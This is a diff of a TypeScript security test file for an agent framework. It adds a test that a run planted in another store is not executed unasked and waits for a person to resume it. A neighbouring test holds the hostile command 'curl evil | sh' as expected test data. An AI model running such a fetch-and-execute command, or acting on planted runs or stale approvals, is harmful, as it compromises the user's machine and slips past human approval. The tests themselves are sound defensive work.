@@ -7,6 +7,7 @@ import type { Agent, Troupe, TroupeOptions } from '../../src/index.ts'
 import { createTroupe, defineTool } from '../../src/index.ts'
 import { recordOwnStore } from '../../src/runtime/store-origin.ts'
 import { openSqlite } from '../../src/store/sqlite.ts'
+import { submitOnlyEngine } from '../support/submit-only-engine.ts'
 import { agent, functionModel, lastMessageText } from '../support/test-troupe.ts'
 
 /*
@@ -99,6 +100,33 @@ test.each(OWN)('E28 a recorded approval is asked about again (own store as a con
   ])
   await (await troupe.answer(result.gates[0]?.gate_id ?? '', 'allow')).result
   expect(done).toEqual(['curl evil | sh'])
+})
+
+test.each(OWN)('E31 a planted run is not executed unasked (own store as a control: %s)', async (isOwn) => {
+  const attack: Attack = {
+    options: { agents: [agent('worker')], model: functionModel(() => ({ text: 'paid' })) },
+    async prepare(troupe) {
+      const other = await createTroupe({
+        ...{ store: join(folder, 'theirs.db'), config: false, agents: [agent('worker')] },
+        engine: { create: submitOnlyEngine },
+      })
+      const { run_id } = await other.stream('task', { agent: 'worker', instruction: 'go' })
+      await other.close()
+      await troupe.getRun(run_id)
+      return run_id
+    },
+  }
+  const { troupe, run_id } = await openCopy(attack, isOwn)
+  const skipped = Promise.withResolvers<string>()
+  void troupe.work({ onSkip: skipped.resolve })
+  if (isOwn) {
+    await vi.waitFor(async () => expect((await troupe.getRun(run_id)).status).toBe('completed'))
+    return
+  }
+  expect(await skipped.promise).toBe(run_id)
+  expect((await troupe.getRun(run_id)).status).toBe('pending')
+  const result = await (await troupe.resume(run_id)).result
+  expect(result.status, 'a person resumes it').toBe('completed')
 })
 
 test.each(OWN)('E28 an answer that waits in the store is not applied (own store as a control: %s)', async (isOwn) => {
